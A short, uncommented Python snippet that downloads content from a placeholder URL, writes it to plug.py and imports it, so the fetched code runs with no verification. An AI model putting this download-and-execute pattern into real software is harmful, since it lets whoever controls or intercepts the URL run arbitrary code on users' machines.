import os,requests
r=requests.get('https://api.example.com/x')
fd=os.open('plug.py',os.O_WRONLY|os.O_CREAT)
os.write(fd,r.content)
import plug
